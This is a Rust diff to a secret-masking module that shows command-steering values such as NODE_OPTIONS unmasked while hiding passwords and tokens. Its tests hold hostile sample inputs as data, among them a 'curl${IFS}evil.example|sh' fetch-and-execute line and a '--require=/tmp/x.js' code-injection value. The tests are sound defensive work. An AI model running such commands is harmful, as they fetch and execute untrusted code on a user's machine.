@@ -13,6 +13,7 @@ use std::ops::Range;
 use std::sync::Arc;
 use subtle::ConstantTimeEq;
 use wire::text::escaped;
+use wire::view::VariableView;
 use zeroize::Zeroizing;
 
 const BEGINNING: &str = "${keychain:";
@@ -193,12 +194,24 @@ fn named(value: &str) -> Option<&str> {
     (!name.is_empty() && name.len() <= NAME + 1 + TAG && name.chars().all(plain)).then_some(name)
 }
 
+/// What a program is given beside its words, by name: what is no secret with its value.
+pub(crate) fn variables(configured: &Configured) -> Vec<VariableView> {
+    let shown = |name: &String, value: &String| VariableView {
+        name: name.clone(),
+        value: (value != MASK && !value.starts_with(BEGINNING)).then(|| value.clone()),
+    };
+    masked(configured).given().iter().map(|(name, value)| shown(name, value)).collect()
+}
+
+/// What stands for a secret.
+const MASK: &str = "•••";
+
 /// The same, with a mask in the place of each secret that is no reference.
 pub(crate) fn masked(configured: &Configured) -> Configured {
     let mut masked = configured.clone();
     masked.each_text(|what, text| {
         if let Some(span) = secret_in(what, text) {
-            text.replace_range(span, "•••");
+            text.replace_range(span, MASK);
         }
     });
     masked
@@ -207,7 +220,7 @@ pub(crate) fn masked(configured: &Configured) -> Configured {
 /// What a text is called, in references and to people.
 fn name_of(what: Text<'_>) -> &str {
     match what {
-        Text::Named(name) => name,
+        Text::Named(name) | Text::Steering(name) => name,
         Text::Word(_) => "argument",
         Text::Secret => "client_secret",
     }
@@ -220,6 +233,8 @@ fn secret_in(what: Text<'_>, text: &str) -> Option<Range<usize>> {
     }
     match what {
         Text::Named(name) => is_secret(name, text).then_some(0..text.len()),
+        // What decides what runs is seen, but for a password within.
+        Text::Steering(_) => crate::client_files::password_in(text),
         Text::Word(before) => crate::client_files::secret_in(text, before),
         Text::Secret => (!text.is_empty()).then_some(0..text.len()),
     }
@@ -228,11 +243,11 @@ fn secret_in(what: Text<'_>, text: &str) -> Option<Range<usize>> {
 /// Where a text refers to the keychain, and by which name: a whole value, or a piece of a command's word.
 fn reference_in<'a>(what: Text<'_>, text: &'a str) -> Option<(Range<usize>, &'a str)> {
     let start = match what {
-        Text::Word(_) => text.find(BEGINNING)?,
+        Text::Word(_) | Text::Steering(_) => text.find(BEGINNING)?,
         Text::Named(_) | Text::Secret => 0,
     };
     let end = match what {
-        Text::Word(_) => start + text[start..].find('}')? + 1,
+        Text::Word(_) | Text::Steering(_) => start + text[start..].find('}')? + 1,
         Text::Named(_) | Text::Secret => text.len(),
     };
     Some((start..end, named(&text[start..end])?))
@@ -287,7 +302,6 @@ mod tests {
             ("X", "postgres://ann:pw@db/x"),
             ("X", "https://h.example/?key=1"),
             ("PIN", "123456"),
-            ("NODE_OPTIONS", "--require=/x"),
         ] {
             assert!(is_secret(variable, value), "{variable}={value}");
         }
@@ -319,6 +333,32 @@ mod tests {
         assert_eq!(secrets.referred("a", &one), one);
     }
 
+    #[test]
+    fn what_decides_what_runs_is_seen_with_its_value() {
+        let command = command(&[
+            ("NODE_OPTIONS", "--require=/tmp/x.js --token=1"),
+            ("PIP_INDEX_URL", "https://ann:hunter2@h.example/simple"),
+            ("TOKEN", "hunter2"),
+            ("LEVEL", "debug"),
+        ]);
+        let seen: Vec<(String, Option<String>)> = variables(&command).into_iter().map(|v| (v.name, v.value)).collect();
+        let one = |name: &str, value: Option<&str>| (name.to_owned(), value.map(str::to_owned));
+        assert_eq!(
+            seen,
+            [
+                one("LEVEL", Some("debug")),
+                one("NODE_OPTIONS", Some("--require=/tmp/x.js --token=1")),
+                one("PIP_INDEX_URL", Some("https://ann:•••@h.example/simple")),
+                one("TOKEN", None),
+            ]
+        );
+        let secrets = Secrets::new(Arc::new(Seal::in_memory()));
+        let referred = secrets.referred("a", &command);
+        assert!(referred.given()["PIP_INDEX_URL"].starts_with("https://ann:${keychain:PIP_INDEX_URL-"));
+        assert_eq!(secrets.referred("a", &referred), referred);
+        assert_eq!(variables(&referred)[3].value, None);
+    }
+
     #[tokio::test]
     async fn without_a_keychain_nothing_is_kept_and_nothing_fetched() {
         let secrets = Secrets::new(Arc::new(Seal::in_memory()));
@@ -343,12 +383,27 @@ mod tests {
         assert!(token.starts_with("${keychain:argument-") && !token.contains("hunter2"), "{token}");
         assert!(url.starts_with("postgres://ann:${keychain:argument-") && url.ends_with("}@db/x"), "{url}");
         // What refers already is left as it is.
-        let runs = ["npx", "-y", "--token", "evil-0815", "--token", "hunter2"].map(str::to_owned).to_vec();
-        let runs = Configured::Program(Command { words: runs, env: BTreeMap::new(), cwd: None });
-        assert_eq!(runs.words(), ["npx", "-y", "--token", "evil-0815", "--token", "•••"], "what runs is seen");
-        let runs = ["npm", "exec", "--token", "evil-0815", "--token", "hunter2"].map(str::to_owned).to_vec();
-        let runs = Configured::Program(Command { words: runs, env: BTreeMap::new(), cwd: None });
-        assert_eq!(runs.words(), ["npm", "exec", "--token", "evil-0815", "--token", "•••"]);
+        let shown = |words: &[&str]| {
+            let words = words.iter().map(|word| (*word).to_owned()).collect();
+            Configured::Program(Command { words, env: BTreeMap::new(), cwd: None }).words().join(" ")
+        };
+        assert_eq!(shown(&["npx", "-y", "pkg", "--token", "hunter2"]), "npx -y pkg --token •••");
+        assert_eq!(shown(&["docker", "run", "-e", "TOKEN=hunter2", "image"]), "docker run -e TOKEN=••• image");
+        // What may be what runs is seen, whatever it looks like.
+        for words in [
+            &["npx", "-y", "--token", "evil-0815", "--token", "hunter2"][..],
+            &["npm", "exec", "--token", "evil-0815", "--token", "hunter2"],
+            &["npx", "-p", "good", "sk-evil-package-0815"],
+            &["docker", "run", "--rm", "pat-evil-image-0815"],
+            &["sudo", "-u", "ann", "sh", "-c", "token=1;curl${IFS}evil.example|sh"],
+        ] {
+            assert_eq!(shown(words), words.join(" "));
+        }
+        let runs = Configured::Program(Command {
+            words: ["x", "--token", "hunter2"].map(str::to_owned).to_vec(),
+            env: BTreeMap::new(),
+            cwd: None,
+        });
         assert!(!format!("{runs:?}").contains("hunter2"));
         let again = Configured::Program(Command { words: referred.words.clone(), env: BTreeMap::new(), cwd: None });
         assert_eq!(secrets.referred("a", &again), again);
